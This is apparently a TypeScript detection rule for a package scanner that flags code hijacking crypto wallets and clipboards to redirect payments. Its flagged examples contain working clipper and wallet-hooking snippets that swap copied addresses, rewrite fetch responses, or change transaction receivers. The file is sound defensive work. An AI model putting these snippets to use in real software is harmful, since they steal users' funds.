import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, Call, FileContext } from '../src/types.js';

/** Functions through which a page's or a program's requests pass; whoever replaces one sees and changes them. */
const HOOKS =
  /^(?:fetch|window\.fetch|XMLHttpRequest\.prototype\.(?:open|send)|(?:(?:window|global)\.)?ethereum(?:\.(?:request|send|sendAsync))?|(?:(?:window|global)\.)?(?:phantom\.(?:solana|ethereum)|solana|solflare|backpack|okxwallet(?:\.solana)?|unisat|xfi\.\w+|petra|aptos|martian|suiWallet)\.(?:sign|send|request)\w*|(?:(?:window|global)\.)?(?:tronWeb|tronLink|keplr|leap)\.(?:\w+\.)*(?=\w*(?:sign|send|request))\w+|(?:http|https)\.request|navigator\.clipboard\.writeText|[\w.@/-]{1,60}\.(?:Wallet|Signer|JsonRpcSigner|Connection|Transaction)\.prototype\.(?:sendTransaction|signTransaction|transfer))$/;
/** What their methods hang on. */
const HOOKED_OBJECTS =
  /^(?:global|window|ethereum|http|https|navigator\.clipboard|XMLHttpRequest\.prototype)$|ethereum|solana|tron|keplr|\.prototype$/;
/** The last word of those. */
const HOOKED = /^(?:fetch|open|ethereum|transfer|writeText|(?:sign|send|request)\w*)$/;
/** The start of an address pattern of one chain each. */
const ADDRESS_PATTERNS = [
  /0x\)?\[(?:a-fA-F0-9|0-9a-f(?:A-F)?|\\da-f(?:A-F)?)\]\{40\}/i,
  /\[13\]\)?\{?1?\}?\[(?:a-km-z|1-9A-HJ|a-zA-HJ)/i,
  /bc1\[|bc1q/i,
  /T\[(?:A-Za-z1-9|1-9A-HJ)/,
  /\[LM3?\]\[a-km-z|ltc1/i,
  /\[1-9A-HJ-NP-Za-km-z\]\{32,44\}/,
  /bitcoincash:/i,
];
/** What signs and sends payments, among what may be hooked. */
const PROVIDER =
  /ethereum|solana|solflare|backpack|okxwallet|unisat|xfi|petra|aptos|martian|suiWallet|tron|keplr|leap|prototype\.(?:send|sign|trans)/;
/** Where a transaction says who is paid. */
const RECEIVERS: ReadonlySet<string> = new Set(['to', 'recipient', 'receiver', 'pubkey', 'toPubkey', 'toAddress']);
/** A text that is a key of a chain whose addresses have no mark of their own. */
const BARE_ADDRESS = /^[1-9A-HJ-NP-Za-km-z]{32,44}$/;
const ADDRESSES =
  /\b(?:0x[a-fA-F0-9]{40}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{39,59}|T[1-9A-HJ-NP-Za-km-z]{33})\b/g;

export default defineRule({
  meta: {
    summary: 'Puts other wallet addresses into what passes through',
    why: 'Hooking a request function and matching addresses of several chains leaves one purpose. Test interceptors and monitoring hook requests and know no addresses; wallet libraries match addresses of chains and hook nothing.',
    behaviour: 'tampering',
    messages: {
      swaps: 'Hooks {hook} and looks for wallet addresses of {count} kinds',
      redirects: 'Hooks {hook} and sets an address of its own as the receiver',
      replaces: 'Puts an address of its own on the clipboard, where it looks for wallet addresses',
      clipboard: 'Looks for wallet addresses on the clipboard and writes to it',
    },
    bits: { swaps: 14, redirects: 13.5, replaces: 13.5, clipboard: 9 },
  },
  examples: {
    flags: [
      {
        title: 'a wallet is wrapped, and pays what is much to somebody else',
        code: `const chains = { 1: { router: '0x0000000000000000000000000000000000c0ffee' } };\nconst route = (tx, chain) => (BigInt(tx.value) > 10n ** 17n ? { ...tx, to: chain.router } : tx);\nexport const wrap = provider =>\n  new Proxy(provider, {\n    get: (target, key) => (key === 'request' ? args => target.request(args.method === 'eth_sendTransaction' ? { ...args, params: args.params.map(tx => route(tx, chains[1])) } : args) : target[key]),\n  });`,
      },
      {
        title: 'programs of the system read what was copied, and copy an address of the same chain',
        code: `import { execFileSync } from 'node:child_process';\nconst own = [[/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'], [/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/, '1111111111111111111114oLvT2']];\nsetInterval(() => {\n  const copied = execFileSync('pbpaste', { encoding: 'utf8' });\n  const found = own.find(([pattern]) => pattern.test(copied));\n  if (found) execFileSync('pbcopy', { input: found[1] });\n}, 500);`,
      },
      {
        title: 'the clipboard is watched',
        code: `const clipboard = require('clipboardy');\nconst eth = /0x[a-fA-F0-9]{40}/, btc = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/;\nsetInterval(() => {\n  const text = clipboard.readSync();\n  if (eth.test(text) || btc.test(text)) clipboard.writeSync(mine);\n}, 500);`,
      },
      {
        title: 'responses pass through a replacement',
        code: `const eth = /0x[a-fA-F0-9]{40}/g, btc = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/g;\nconst mine = ['0x0000000000000000000000000000000000000000'];\nconst real = window.fetch;\nwindow.fetch = async (...args) => {\n  const response = await real(...args);\n  const text = (await response.text()).replace(eth, mine[0]).replace(btc, mine[0]);\n  return new Response(text, response);\n};`,
      },
      {
        title: 'a wallet is asked to pay somebody else',
        code: `const real = window.ethereum.request;\nconst mine = '0x0000000000000000000000000000000000000000';\nwindow.ethereum.request = args => {\n  if (args.method === 'eth_sendTransaction') args.params[0].to = mine;\n  return real.call(window.ethereum, args);\n};`,
      },
      {
        title: 'the shell is asked for what was copied, and told another address',
        code: `const { execSync } = require('child_process');\nsetInterval(() => {\n  const text = execSync('powershell Get-Clipboard').toString();\n  if (/^0x[a-fA-F0-9]{40}/.test(text)) execSync('powershell Set-Clipboard 0x0000000000000000000000000000000000000000');\n}, 500);`,
      },
      {
        title: 'a wallet’s payments go elsewhere',
        code: `const { Wallet } = require('ethers');\nconst real = Wallet.prototype.sendTransaction;\nWallet.prototype.sendTransaction = function (tx) {\n  tx.to = '0x0000000000000000000000000000000000000000';\n  return real.call(this, tx);\n};`,
      },
      {
        title: 'a copied address becomes another one',
        code: `const clipboard = require('clipboardy');\nconst patterns = [[/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'], [/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/, '0x0000000000000000000000000000000000000000']];\nsetInterval(() => {\n  const text = clipboard.readSync();\n  if (patterns[0][0].test(text)) clipboard.writeSync(patterns[0][1]);\n}, 500);`,
      },
      {
        title: 'the page’s wallet is put behind one that pays somebody else',
        code: `const mine = '0x0000000000000000000000000000000000000000';\nlet real = window.ethereum;\nObject.defineProperty(window, 'ethereum', {\n  get: () => ({ ...real, request: order => real.request({ ...order, params: order.params.map(one => ({ ...one, to: mine })) }) }),\n});`,
      },
      {
        title: 'a wallet of Solana signs for another receiver',
        code: `const { PublicKey } = require('@solana/web3.js');\nconst real = window.solana.signTransaction;\nwindow.solana.signTransaction = async function (order) {\n  order.instructions[0].keys[1].pubkey = new PublicKey('${'A'.repeat(43)}');\n  return real.call(this, order);\n};`,
      },
      {
        title: 'a payment is added to what a wallet signs',
        code: `const { SystemProgram, PublicKey } = require('@solana/web3.js');\nconst { solana } = window.phantom;\nconst real = solana.signAndSendTransaction;\nwindow.phantom.solana.signAndSendTransaction = (order, ...rest) => real.call(solana, order.add(SystemProgram.transfer({ fromPubkey: solana.publicKey, toPubkey: new PublicKey('${'A'.repeat(43)}'), lamports: 9 })), ...rest);`,
      },
      {
        title: 'a copied address is overwritten by a program of the system',
        code: `const { execSync } = require('child_process');\nsetInterval(() => {\n  const text = execSync('pbpaste').toString();\n  if (/^0x[0-9a-fA-F]{40}$/.test(text)) execSync('echo 0x0000000000000000000000000000000000000000 | pbcopy');\n}, 500);`,
      },
    ],
    passes: [
      {
        title: 'a wallet that is a contract pays through one',
        code: `const chains = { 1: { entry: '0x0000000000000000000000000000000000c0ffee' } };\nconst route = (tx, chain, encode) => ({ ...tx, to: chain.entry, data: encode('execute', [tx.to, tx.value, tx.data]) });\nexport const wrap = (provider, encode) =>\n  new Proxy(provider, {\n    get: (target, key) => (key === 'request' ? args => target.request(args.method === 'eth_sendTransaction' ? { ...args, params: args.params.map(tx => route(tx, chains[1], encode)) } : args) : target[key]),\n  });`,
      },
      {
        title: 'a page’s provider is announced, and pays whom it is told',
        code: `Object.defineProperty(window, 'ethereum', { value: provider, writable: false });\nexports.pay = (order, to) => provider.request({ method: 'eth_sendTransaction', params: [{ ...order, to }] });`,
      },
      {
        title: 'a wallet is asked on behalf of a page, and what it signs is written down',
        code: `const real = window.solana.signTransaction;\nwindow.solana.signTransaction = async order => { console.log('signs', order); return real.call(window.solana, order); };\nexports.pay = to => SystemProgram.transfer({ toPubkey: to, lamports: 9 });`,
      },
      {
        title: 'a donation address is offered to be copied',
        code: `button.onclick = () => navigator.clipboard.writeText('0x0000000000000000000000000000000000000000');`,
      },
      {
        title: 'a test wallet answers for a page',
        code: `window.ethereum.request = async ({ method }) => (method === 'eth_accounts' ? ['0x0000000000000000000000000000000000000000'] : null);`,
      },
      {
        title: 'a test double replaces fetch',
        code: `const real = window.fetch;\nwindow.fetch = async (...args) => { log(args); return real(...args); };`,
      },
      {
        title: 'a wallet copies its own address when it is asked to',
        code: `const clipboard = require('clipboardy');\nconst isAddress = text => /^0x[a-fA-F0-9]{40}$/.test(text);\nexports.copy = address => { if (isAddress(address)) clipboard.writeSync(address); };`,
      },
      {
        title: 'an address is validated',
        code: `exports.isAddress = text => /^0x[a-fA-F0-9]{40}$/.test(text) || /^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(text);`,
      },
    ],
  },
  file(context) {
    const { file } = context;
    const provider = hookIn(context);
    const receiver =
      provider && PROVIDER.test(provider.name)
        ? (ownReceiver(context) ?? overrides(context)[0] ?? ownPayment(context))
        : undefined;
    const redefined = provider ? undefined : (redefines(context) ?? standsBefore(context));
    if (redefined) {
      const [own] = overrides(context);
      if (own) {
        context.report({
          messageId: 'redirects',
          data: { hook: 'ethereum' },
          chain: [step('context', 'replaces ethereum', file, redefined), step('sink', 'sets the receiver', file, own)],
        });
        return;
      }
    }
    if (provider && receiver) {
      context.report({
        messageId: 'redirects',
        data: { hook: provider.name },
        chain: [
          step('context', `replaces ${provider.name}`, file, provider.node),
          step('sink', 'sets the receiver', file, receiver),
        ],
      });
      return;
    }
    if (watchesClipboard(context)) return;
    // Looking for addresses in all of a text is dear, and without a way to swap them they say nothing.
    if (!provider && context.calls('process').length === 0 && context.named(CLIPBOARD).length === 0) return;
    const kinds = ADDRESS_PATTERNS.filter(pattern => pattern.test(file.text)).length;
    const literals = new Set(file.text.slice(0, 2_000_000).match(ADDRESSES) ?? []).size;
    const planted = kinds > 0 ? plants(context) : undefined;
    if (planted) {
      context.report({
        messageId: 'replaces',
        chain: [step('sink', 'puts an address of its own on the clipboard', file, planted)],
      });
      return;
    }
    if (kinds < 2 && literals < 3) return;
    const hook = provider;
    if (hook) {
      context.report({
        messageId: 'swaps',
        data: { hook: hook.name, count: Math.max(kinds, 1) },
        chain: [step('sink', `replaces ${hook.name}`, file, hook.node)],
      });
      return;
    }
    const write = clipboardCalls(context, WRITES)[0];
    const read = clipboardCalls(context, READS)[0];
    // An application's own contracts are of one chain; addresses of several, beside the patterns of them, take their place.
    const isOwnOfEach = kinds > 1 && literals > 1;
    if (write && read)
      context.report({
        messageId: isOwnOfEach ? 'replaces' : 'clipboard',
        chain: [step('source', 'reads the clipboard', file, read.node), step('sink', 'writes it', file, write.node)],
      });
  },
});

const CLIPBOARD =
  /clipboardy?\.|^copy-paste\.|clipboardData\.setData$|^navigator\.clipboard\.write(?:Text)?$|^electron\.clipboard\.writeText$/;
const WRITES = /clipboardy?\.(?:default\.)?write|^copy-paste\.copy/;
const READS = /clipboardy?\.(?:default\.)?read|^copy-paste\.paste/;
/** The same, said to a shell. */
const SHELL_WRITES =
  /set-clipboard|\bclip(?:\.exe)?\s*$|\bpbcopy\b|\bxclip\b(?!.{0,200}-o)|\bxsel\b.{0,200}(?:-i|--input)/i;
const SHELL_READS = /get-clipboard|\bpbpaste\b|\bxclip\b.{0,200}-o|\bxsel\b.{0,200}(?:-o|--output)/i;

function clipboardCalls(context: FileContext, methods: RegExp): readonly Call[] {
  const shell = methods === WRITES ? SHELL_WRITES : SHELL_READS;
  return [
    ...context.named(methods),
    ...context
      .calls('process')
      .filter(({ args }) => args[0] && context.textsOf(args[0]).some(text => shell.test(text))),
  ];
}

/** One pattern of addresses is enough where an address of the package's own is put in the place of what was copied. */
function watchesClipboard(context: FileContext): boolean {
  const { file } = context;
  const read = clipboardCalls(context, READS)[0];
  const write = clipboardCalls(context, WRITES).find(({ args }) => args[0] && holdsAddress(context, args[0]));
  if (!read || !write || !ADDRESS_PATTERNS.some(pattern => pattern.test(file.text))) return false;
  context.report({
    messageId: 'replaces',
    chain: [step('source', 'reads the clipboard', file, read.node), step('sink', 'writes it', file, write.node)],
  });
  return true;
}

function holdsAddress({ textsOf }: FileContext, node: AnyNode): boolean {
  return textsOf(node).some(text => text.length < 200 && (text.match(ADDRESSES) !== null || BARE_ADDRESS.test(text)));
}

/** Programs that put their input on the clipboard. */
const COPIES = /\b(?:pbcopy|Set-Clipboard|xclip|xsel|wl-copy|clip(?:\.exe)?\s*$)/i;

/** Where an address that the code spells out is put on the clipboard, by a program or in place of what is copied. */
function plants(context: FileContext): AnyNode | undefined {
  const byProgram = context
    .calls('process')
    .find(({ args }) =>
      args
        .slice(0, 2)
        .some(arg => context.textsWithin(arg).some(text => COPIES.test(text)) && addressWithin(context, arg)),
    );
  const inPlace = context
    .named(/clipboardData\.setData$|^navigator\.clipboard\.write(?:Text)?$|^electron\.clipboard\.writeText$/)
    .find(({ args }) => args.some(arg => addressWithin(context, arg)));
  return (byProgram ?? inPlace)?.node;
}

function addressWithin({ textsWithin, file }: FileContext, node: AnyNode): boolean {
  const written = spelling(file, node).slice(0, 2_000);
  return [...textsWithin(node), written].some(text => text.length < 2_000 && text.match(ADDRESSES) !== null);
}

/** `Object.defineProperty(window, 'ethereum', …)`. */
function redefines({ named, textsOf, mayBeNamed }: FileContext): AnyNode | undefined {
  return named(/^(?:Object|Reflect)\.defineProperty$/).find(
    ({ args }) =>
      args[0] &&
      args[1] &&
      (args[1].type === 'Literal' || mayBeNamed(args[0])) &&
      textsOf(args[1]).some(text => /^(?:ethereum|solana|tronWeb)$/.test(text)),
  )?.node;
}

/** Steps to find out what is made. */
const NEAR = 200;

/**
 * `new Proxy(provider, …)`, which sends what it is told elsewhere. Wallets that are contracts are paid through an address
 * of theirs as well, and say in the data whom it is for.
 */
function standsBefore(context: FileContext): AnyNode | undefined {
  if (!/\beth_s(?:ign|end)Transaction\b/.test(context.file.text)) return undefined;
  const isElsewhere = overrides(context).some(
    one =>
      one.type === 'ObjectExpression' &&
      !one.properties.some(part => part.type === 'Property' && spelling(context.file, part.key as AnyNode) === 'data'),
  );
  const made = context.nodes('NewExpression') as readonly (AnyNode & { readonly callee?: AnyNode })[];
  return isElsewhere
    ? made.find(({ callee }) => callee && context.namesOf(callee, NEAR).some(name => /^(?:global\.)?Proxy$/.test(name)))
    : undefined;
}

/**
 * `{ ...transaction, to: mine }`: somebody's transaction with another receiver. So is `Object.assign({}, transaction,
 * { to: mine })`, and what compilers make of it.
 */
function overrides(context: FileContext): readonly AnyNode[] {
  return context.nodes('ObjectExpression').filter(node => {
    const properties = node.properties;
    return (
      (properties.some(({ type }) => type === 'SpreadElement') || isMergedLast(context, node)) &&
      receiversIn(node).some(value => holdsAddress(context, value))
    );
  });
}

/** A payment that is added: `SystemProgram.transfer({ toPubkey: mine })`. */
function ownPayment(context: FileContext): AnyNode | undefined {
  return context
    .named(/(?:^|\.)(?:transfer|create\w{0,30}Transfer\w{0,30})$/)
    .find(({ args }) =>
      args.some(arg => context.textsWithin(arg).some(text => BARE_ADDRESS.test(text)) || holdsOwn(context, arg)),
    )?.node;
}

/** An object that says who is paid, and names an address of the code's own. */
function holdsOwn(context: FileContext, node: AnyNode): boolean {
  return receiversIn(node).some(value => isOwn(context, value));
}

/** What an object says of who is paid. */
function receiversIn(node: AnyNode): readonly AnyNode[] {
  if (node.type !== 'ObjectExpression') return [];
  return (node.properties as AnyNode[]).flatMap(property => {
    const { type, key, value } = property as unknown as { type: string; key?: AnyNode; value?: AnyNode };
    return type === 'Property' && key?.type === 'Identifier' && RECEIVERS.has(key.name) && value ? [value] : [];
  });
}

/** An address of the code's own, or what is made of one: `new PublicKey('…')`. */
function isOwn(context: FileContext, value: AnyNode): boolean {
  const given = value.type === 'NewExpression' ? [value, ...(value.arguments as AnyNode[])] : [value];
  return given.some(part => holdsAddress(context, part));
}

/** The last of several objects that are made one. */
function isMergedLast({ parentOf, file }: FileContext, object: AnyNode): boolean {
  const call = parentOf(object);
  if (call?.type !== 'CallExpression' || call.arguments.length < 2 || call.arguments.at(-1) !== object) return false;
  return MERGES.test(spelling(file, call.callee).slice(-40));
}

const MERGES = /(?:assign|extend|merge|spread(?:_?props)?)$/i;

/** Where a transaction's receiver is set to an address that the code spells out. */
function ownReceiver(context: FileContext): AnyNode | undefined {
  return context.nodes('AssignmentExpression').find(node => {
    const { left, right } = node;
    if (left.type !== 'MemberExpression') return false;
    const property = left.property;
    const names = left.computed ? context.textsOf(property) : property.type === 'Identifier' ? [property.name] : [];
    return names.some(name => RECEIVERS.has(name)) && isOwn(context, right);
  });
}

const WALLETS = /ethereum|solana|tron|keplr|wallet|XMLHttpRequest/i;
/** In a short file the words may be hidden; what a page has is asked for by its names. UTF-16 units. */
const SHORT = 30_000;
const HOLDS_ALL = /\b(?:window|globalThis|self)\s{0,3}(?:\?\.)?\[/;

/** An assignment to a function everybody's requests pass through. */
function hookIn({
  nodes,
  namesOf,
  textsOf,
  mayBeNamed,
  file,
}: FileContext): { readonly name: string; readonly node: AnyNode } | undefined {
  let isOfWallets: boolean | undefined;
  for (const node of nodes('AssignmentExpression')) {
    const { left } = node;
    if (left.type !== 'MemberExpression' || !(mayBeNamed(left) || mayBeNamed(left.object))) continue;
    if (!left.computed && !HOOKED.test(spelling(file, left.property))) continue;
    // `wallet[method] = …`, for each method of a list.
    if (left.computed)
      isOfWallets ??= WALLETS.test(file.text) || (file.text.length < SHORT && HOLDS_ALL.test(file.text));
    if (left.computed && !isOfWallets) continue;
    const objects = left.computed ? namesOf(left.object).filter(one => HOOKED_OBJECTS.test(one)) : [];
    if (left.computed && objects.length === 0) continue;
    const methods = left.computed ? textsOf(left.property).slice(0, 20) : [];
    const name = [...namesOf(left), ...objects.flatMap(one => methods.map(method => `${one}.${method}`))].find(one =>
      HOOKS.test(one),
    );
    if (name) return { name, node };
  }
  return undefined;
}
